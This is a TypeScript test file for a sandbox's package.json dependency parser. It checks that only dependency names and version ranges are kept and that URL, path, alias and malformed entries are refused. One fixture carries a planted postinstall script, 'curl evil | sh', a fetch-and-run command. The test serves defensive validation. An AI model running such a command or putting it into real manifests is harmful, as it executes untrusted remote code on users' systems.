import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { canonicalDependencySet, dependencySetFromPackageJson, MAX_PROJECT_DEPENDENCIES } from './dependency-set.js';

const canonical = (manifest: unknown): string => {
  const set = dependencySetFromPackageJson(JSON.stringify(manifest));
  if (!set.ok) throw new Error(set.error.message);
  return canonicalDependencySet(set.value);
};

const refusal = (text: string) => {
  const set = dependencySetFromPackageJson(text);
  return set.ok ? null : set.error;
};

describe('dependencySetFromPackageJson', () => {
  it('keeps the names and trimmed ranges of dependencies and devDependencies, sorted, and nothing else', () => {
    const set = dependencySetFromPackageJson(
      JSON.stringify({
        name: 'app',
        scripts: { postinstall: 'curl evil | sh' },
        overrides: { react: 'file:../x' },
        dependencies: { react: '19.3.1', clsx: ' ^2.1.1 ' },
        devDependencies: { vite: '8.3.8', '@types/react': 'latest' },
      }),
    );
    expect(set).toEqual({
      ok: true,
      value: { dependencies: { clsx: '^2.1.1', react: '19.3.1' }, devDependencies: { '@types/react': 'latest', vite: '8.3.8' } },
    });
    if (set.ok) expect(Object.keys(set.value.dependencies)).toEqual(['clsx', 'react']);
  });

  it('reads a package.json without dependency sections as the empty set', () => {
    expect(canonical({ name: 'bare' })).toBe(canonical({ dependencies: {}, devDependencies: {} }));
  });

  it('gives the same canonical text whatever the order of keys, the spacing or the other fields', () => {
    const a = { name: 'a', dependencies: { ms: '^2.1.3', react: '19.3.1' }, devDependencies: { vite: '8.3.8' } };
    const b = { devDependencies: { vite: ' 8.3.8' }, version: '2.0.0', dependencies: { react: '19.3.1', ms: '^2.1.3' } };
    expect(canonical(a)).toBe(canonical(b));
    expect(canonicalDependencySet(ok(JSON.stringify(b, null, 4)))).toBe(canonical(a));
  });

  it('gives different text for a different name, range or section', () => {
    const base = canonical({ dependencies: { ms: '^2.1.3' } });
    expect(canonical({ dependencies: { ms: '^2.1.2' } })).not.toBe(base);
    expect(canonical({ dependencies: { nanoid: '^2.1.3' } })).not.toBe(base);
    expect(canonical({ devDependencies: { ms: '^2.1.3' } })).not.toBe(base);
    expect(canonical({ dependencies: { ms: '^2.1.3', clsx: '2.1.1' } })).not.toBe(base);
  });

  it('is order-independent for any set of valid entries (property)', () => {
    const name = fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/);
    const range = fc.constantFrom('1.0.0', '^2.1.3', '~0.4', '>=1 <3', '1.x', '*', 'latest', 'next');
    const section = fc.dictionary(name, range, { maxKeys: 8 });
    fc.assert(
      fc.property(section, section, fc.nat(), (deps, devDeps, seed) => {
        const shuffled = (record: Record<string, string>) => {
          const entries = Object.entries(record);
          // A deterministic rotation of the entries: another insertion order, same content.
          const k = entries.length === 0 ? 0 : seed % entries.length;
          return Object.fromEntries([...entries.slice(k), ...entries.slice(0, k)].reverse());
        };
        expect(canonical({ devDependencies: shuffled(devDeps), dependencies: shuffled(deps) })).toBe(
          canonical({ dependencies: deps, devDependencies: devDeps }),
        );
      }),
    );
  });

  it.each([
    ['a git URL', 'git+https://github.com/evil/pkg.git'],
    ['a GitHub shorthand', 'evil/pkg'],
    ['a file path', 'file:../secrets'],
    ['a link', 'link:../pkg'],
    ['a tarball URL', 'https://example.com/pkg.tgz'],
    ['an http URL', 'http://example.com/pkg.tgz'],
    ['an npm alias', 'npm:react@19'],
    ['the workspace protocol', 'workspace:*'],
    ['an empty string', ''],
  ])('refuses %s as a version', (_label, version) => {
    expect(refusal(JSON.stringify({ dependencies: { pkg: version } }))).toMatchObject({
      code: 'SANDBOX.DEPENDENCIES_REFUSED',
      reason: 'invalid-version',
      subject: 'pkg',
    });
  });

  it('refuses a version that is not a string', () => {
    expect(refusal(JSON.stringify({ devDependencies: { pkg: 1 } }))).toMatchObject({ reason: 'invalid-version', subject: 'pkg' });
  });

  it.each(['Left-Pad', 'left pad', '../escape', '.hidden', '_private', '@scope/', 'a/b', ''])('refuses the package name %j', (name) => {
    expect(refusal(JSON.stringify({ dependencies: { [name]: '1.0.0' } }))).toMatchObject({ reason: 'invalid-package-name' });
  });

  it('refuses text that is not a JSON object, and sections that are not objects', () => {
    expect(refusal('{ "dependencies": ')).toMatchObject({ reason: 'not-json', message: 'package.json is not valid JSON.' });
    expect(refusal('[]')).toMatchObject({ reason: 'not-an-object' });
    expect(refusal('null')).toMatchObject({ reason: 'not-an-object' });
    expect(refusal(JSON.stringify({ dependencies: ['react'] }))).toMatchObject({ reason: 'section-not-an-object' });
    expect(refusal(JSON.stringify({ devDependencies: 'vite' }))).toMatchObject({ reason: 'section-not-an-object' });
  });

  it(`refuses more than ${MAX_PROJECT_DEPENDENCIES} packages in all`, () => {
    const many = (prefix: string, n: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`${prefix}${i}`, '1.0.0']));
    expect(refusal(JSON.stringify({ dependencies: many('a', MAX_PROJECT_DEPENDENCIES) }))).toBeNull();
    expect(refusal(JSON.stringify({ dependencies: many('a', 200), devDependencies: many('b', MAX_PROJECT_DEPENDENCIES - 199) }))).toMatchObject({
      reason: 'too-many',
    });
  });
});

function ok(text: string) {
  const set = dependencySetFromPackageJson(text);
  if (!set.ok) throw new Error(set.error.message);
  return set.value;
}
